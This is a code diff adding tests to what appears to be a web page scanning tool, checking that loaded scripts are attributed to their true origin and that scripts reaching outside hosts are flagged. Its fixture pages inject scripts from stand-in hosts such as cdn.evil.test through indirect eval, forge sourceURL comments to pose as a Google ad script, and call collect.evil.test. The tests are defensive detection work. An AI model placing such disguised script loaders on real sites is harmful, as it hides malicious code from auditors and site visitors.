@@ -12,7 +12,7 @@ from django.conf import settings
 from playwright._impl._driver import compute_driver_executable
 
 from demo.authority import Authority
-from demo.web import Web
+from demo.web import Reply, Web
 from scans.capture.configuration import CaptureSettings, Target, key_pins
 from scans.capture.visit import visit
 from tests.scans.capture.seeing import one_page, see
@@ -94,3 +94,56 @@ def test_no_websocket_rides_on_an_open_connection(h2, way):
     assert page.requests[0].protocol == "h2"
     assert [entry["path"] for entry in log if entry["path"] == "/warm"] == ["/warm"]
     assert [entry for entry in log if entry["method"] not in ("GET", "HEAD")] == []
+
+
+FORGED = """<script>
+  const brings = (host, name) => (0, eval)("const s = document.createElement('script'); s.src = 'https://" + host + "/x.js'; document.head.append(s)"
+    + "\\n//# sourceURL=" + name);
+  brings("cdn.evil.test", "https://securepubads.g.doubleclick.net/tag/js/gpt.js");
+  brings("cdn2.evil.test", "https://[evil");
+  (0, eval)("document.cookie = 'a=b'\\n//# sourceURL=https://securepubads.g.doubleclick.net/tag/js/gpt.js");
+</script>
+<script>
+  const own = document.createElement("script"); own.src = "https://cdn3.evil.test/x.js"; document.head.append(own);
+  //# sourceURL=https://securepubads.g.doubleclick.net/tag/js/gpt.js
+</script>"""
+
+
+def test_a_script_cannot_name_another_as_its_cause():
+    def served(hit):
+        return Reply(body=b"window.z = 1", headers=[("Content-Type", "text/javascript")])
+
+    others = {f"cdn{number}.evil.test": served for number in ("", "2", "3")}
+    with Web({HOST: one_page(FORGED), **others}) as web:
+        page = see(web, URL)
+    brought = [one for one in (*page.requests, *page.scripts) if "evil.test" in one.url]
+    assert len(brought) == 6
+    assert {tuple(one.initiator.chain) for one in brought} == {(URL,)}
+    assert [cookie.set_by_url for cookie in page.cookies] == [URL]
+
+
+def test_a_script_that_is_too_long_to_keep_is_known_by_its_hash():
+    def loaded(text):
+        def site(hit):
+            if hit.path == "/long.js":
+                return Reply(body=f"window.long = '{text}'".encode(), headers=[("Content-Type", "text/javascript")])
+            return one_page("<script src='/long.js'></script>")(hit)
+
+        with Web({HOST: site}) as web:
+            return next(script for script in see(web, URL, script_bytes=1000).scripts if script.url)
+
+    one, again, other = loaded("a" * 2000), loaded("a" * 2000), loaded("b" * 2000)
+    assert (one.sha256, one.reaches) == ("", [])
+    assert len(one.normalised_sha256) == 64
+    assert one.normalised_sha256 == again.normalised_sha256 != other.normalised_sha256
+
+
+def test_a_file_says_whom_it_names():
+    def site(hit):
+        if hit.path == "/own.js":
+            return Reply(body=b"const f = () => fetch('https://collect.evil.test/x')", headers=[("Content-Type", "text/javascript")])
+        return one_page("<script src='/own.js'></script>")(hit)
+
+    with Web({HOST: site}) as web:
+        [script] = [script for script in see(web, URL).scripts if script.url]
+    assert (script.reaches, script.normalised_sha256, len(script.sha256)) == (["collect.evil.test"], "", 64)
